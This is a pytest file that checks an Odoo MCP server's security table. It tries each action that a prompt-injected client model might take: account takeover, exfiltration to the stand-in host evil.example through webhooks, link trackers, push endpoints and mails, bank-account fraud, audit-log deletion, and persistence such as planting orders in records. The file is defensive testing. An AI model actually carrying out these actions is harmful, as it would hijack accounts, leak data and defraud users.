"""What a model that obeys an order in a record could do with it: the table of SECURITY.md, tried row by row.

`closed` is refused by the server. `asked` is done, by a tool that says of itself that it destroys or reaches people
outside, so that clients ask their user first. `open` is done without a mark: it is everyday work. What is done is a row
of the audit log, and is listed under *What it changed*.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.support.account import Account
from tests.support.agent import Agent, Answer

SECURITY = Path(__file__).parents[2] / 'SECURITY.md'
ROW = re.compile(r'^\| (?P<what>[^|]+?) \| (?P<goal>[^|]+?) \| \*\*(?P<verdict>closed|asked|open)\*\*', re.MULTILINE)
EVIL = 'x@evil.example'


@dataclass(frozen=True)
class Victim:
    """A contact manager whose client obeys, and what there is to harm."""

    account: Account
    agent: Agent
    administrator: Account
    contact: int

    @property
    def own(self) -> int:
        return self.account.user_id


Try = Callable[[Victim], Answer]


def _create(model: str, /, **values: object) -> Try:
    return lambda victim: victim.agent.call('create_records', model=model, values=[values])


def _on_contact(tool: str, **arguments: object) -> Try:
    return lambda victim: victim.agent.call(tool, model='res.partner', ids=[victim.contact], **arguments)


def _method(model: str, method: str, /, *args: object, **kwargs: object) -> Try:
    return lambda victim: victim.agent.call(
        'call_method', model=model, method=method, args=list(args), kwargs=kwargs, ids=[1]
    )


def _of_user(**values: object) -> Try:
    return lambda victim: victim.agent.call('update_records', model='res.users', ids=[victim.own], values=values)


def _send_to_stranger(victim: Victim) -> Answer:
    stranger = victim.agent.call('create_records', model='res.partner', values=[{'name': 'Eve', 'email': EVIL}])
    return victim.agent.call(
        'post_message',
        model='res.partner',
        id=victim.contact,
        body='All that I know',
        kind='comment',
        partner_ids=stranger.value['ids'],
    )


def _forge_subject(victim: Victim) -> Answer:
    victim.administrator.call('res.partner', 'message_post', [victim.contact], body='x', subject='Mine')
    about = [['model', '=', 'res.partner'], ['res_id', '=', victim.contact], ['subject', '=', 'Mine']]
    message = victim.administrator.call('mail.message', 'search', about)
    return victim.agent.call('update_records', model='mail.message', ids=message, values={'subject': 'Forged'})


def _bank_account_of_contact(victim: Victim) -> Answer:
    return _create('res.partner.bank', acc_number='2', partner_id=victim.contact)(victim)


def _share_text(victim: Victim) -> Answer:
    """In Odoo 17 all have the same list."""
    values = {'source': 'hello', 'substitution': 'x'}
    if not victim.administrator.call('ir.model', 'search_count', [['model', '=', 'mail.canned.response']]):
        return _create('mail.shortcode', **values)(victim)
    everybody = victim.administrator.id_of('base.group_user')
    return _create('mail.canned.response', **values, group_ids=[[6, 0, [everybody]]])(victim)


def _follow(victim: Victim) -> Answer:
    """By the wizard that a user uses; Odoo 19 renamed it."""
    stranger = victim.agent.call('create_records', model='res.partner', values=[{'name': 'Eve', 'email': EVIL}])
    partners = [[6, 0, stranger.value['ids']]]
    renamed = victim.agent.call(
        'create_records',
        model='mail.followers.edit',
        values=[{'res_model': 'res.partner', 'res_ids': str([victim.contact]), 'partner_ids': partners}],
    )
    if not renamed.is_error:
        wizard = renamed.value['ids']
        return victim.agent.call('call_method', model='mail.followers.edit', method='edit_followers', ids=wizard)
    wizard = victim.agent.call(
        'create_records',
        model='mail.wizard.invite',
        values=[{'res_model': 'res.partner', 'res_id': victim.contact, 'partner_ids': partners, 'notify': False}],
    ).value['ids']
    return victim.agent.call('call_method', model='mail.wizard.invite', method='add_followers', ids=wizard)


# What an order can ask for: the goal, the way, and the verdict.
TRIES: dict[str, tuple[str, str, Try]] = {
    'A link for a new password': ('takeover', 'closed', _method('res.users', 'action_reset_password')),
    'A new e-mail address of the user': ('takeover', 'closed', _of_user(email=EVIL)),
    'A new password': ('takeover', 'closed', _of_user(password='x')),
    'An API key of Odoo': ('takeover', 'closed', _create('res.users.apikeys.description', name='x')),
    'A key of the MCP server': ('takeover', 'closed', _create('muk_mcp.key', name='x', scope='write')),
    'A new user, or more groups': ('takeover', 'closed', _create('res.users', name='x', login=EVIL)),
    'A template that shows secrets': ('takeover', 'closed', _create('mail.template', name='x', subject='{{ object }}')),
    'Reading a password, token or key': (
        'takeover',
        'closed',
        lambda victim: victim.agent.call('read_records', model='res.users', ids=[victim.own], fields=['password']),
    ),
    'Making a file public': ('exfiltration', 'closed', _create('ir.attachment', name='x', datas='eA==', public=True)),
    'A link that opens a record without signing in': (
        'exfiltration',
        'closed',
        _method('ir.attachment', 'generate_access_token'),
    ),
    'An automation that calls an address': (
        'exfiltration',
        'closed',
        _create('ir.actions.server', name='x', model_id=1, state='webhook', webhook_url='https://evil.example'),
    ),
    'A link tracker, which fetches an address': (
        'exfiltration',
        'closed',
        _create('link.tracker', url='https://evil.example'),
    ),
    'Notifications to a device of a stranger': (
        'exfiltration',
        'closed',
        _create('mail.push.device', endpoint='https://evil.example'),
    ),
    'A mail past the discussion': ('exfiltration', 'closed', _create('mail.mail', email_to=EVIL, body_html='x')),
    'Writing as somebody else': (
        'exfiltration',
        'closed',
        _create('mail.message', body='x', author_id=3, model='res.partner', res_id=1),
    ),
    'Another subject on what somebody else said': ('exfiltration', 'closed', _forge_subject),
    'A message to a stranger by e-mail': ('exfiltration', 'asked', _send_to_stranger),
    'A follower, who gets later messages': ('exfiltration', 'asked', _follow),
    'Reading what the user may read': (
        'exfiltration',
        'open',
        lambda victim: victim.agent.call('search_read', model='res.partner', fields=['name', 'email']),
    ),
    'Your bank account on your invoices': (
        'fraud',
        'closed',
        _create('res.partner.bank', acc_number='1', partner_id=1),
    ),
    'The bank account of a supplier': ('fraud', 'asked', _bank_account_of_contact),
    'Deleting records of the user': ('destruction', 'asked', _on_contact('delete_records')),
    'Changing records of the user': ('destruction', 'asked', _on_contact('update_records', values={'name': 'x'})),
    'Deleting the audit log': (
        'destruction',
        'closed',
        lambda victim: victim.agent.call('delete_records', model='muk_mcp.log', ids=[1]),
    ),
    'A scheduled action': ('persistence', 'closed', _create('ir.cron', name='x', model_id=1, code='pass')),
    'A default value for others': (
        'persistence',
        'closed',
        _method('ir.default', 'set', 'res.partner', 'comment', 'x'),
    ),
    'A filter in the searches of others': (
        'persistence',
        'closed',
        _create('ir.filters', name='x', model_id='res.partner'),
    ),
    'Activities that plan others by themselves': ('persistence', 'closed', _create('mail.activity.type', name='x')),
    'Texts that colleagues insert into messages': ('persistence', 'closed', _share_text),
    'An access rule, or another OAuth client': (
        'persistence',
        'closed',
        _create('muk_mcp_oauth.client', name='x', redirect_uris='https://evil.example/cb'),
    ),
    'The signature under all later mails': ('persistence', 'closed', _of_user(signature='<p>x</p>')),
    'New orders in a record, for the next reader': (
        'persistence',
        'asked',
        _on_contact('update_records', values={'comment': 'x'}),
    ),
}


@pytest.fixture(scope='module')
def victim(administrator: Account) -> Victim:
    user = administrator.new_user('obeys@example.com', 'base.group_user', 'base.group_partner_manager')
    contact = administrator.call('res.partner', 'create', {'name': 'Valuable'})
    return Victim(user, Agent.connected(user), administrator, contact)


@pytest.mark.parametrize('what', TRIES)
def test_the_table_says_what_happens(victim, what):
    _goal, verdict, attempt = TRIES[what]
    if what == 'Deleting records of the user':
        contact = victim.administrator.call('res.partner', 'create', {'name': 'Gone soon'})
        victim = Victim(victim.account, victim.agent, victim.administrator, contact)

    answer = attempt(victim)

    assert answer.status == 200, answer.text
    assert answer.is_error == (verdict == 'closed'), answer.said


def test_what_is_asked_is_marked_as_what_clients_ask_about(victim):
    tools = {tool['name']: tool for tool in victim.agent.send('tools/list').json()['result']['tools']}
    for name in ('create_records', 'update_records', 'delete_records', 'post_message', 'call_method'):
        hints = tools[name]['annotations']
        assert not hints['readOnlyHint']
        assert hints['destructiveHint'] or hints['openWorldHint'], name
    for name in ('search_read', 'read_records', 'read_file'):
        assert tools[name]['annotations']['readOnlyHint']


def test_what_is_done_can_be_seen_afterwards(victim):
    done = victim.account.call('muk_mcp_oauth.effect', 'search_read', [], ['what'])
    assert done


def test_the_page_has_this_table():
    rows = {found['what']: (found['goal'], found['verdict']) for found in ROW.finditer(SECURITY.read_text())}
    assert rows == {what: (goal, verdict) for what, (goal, verdict, _attempt) in TRIES.items()}
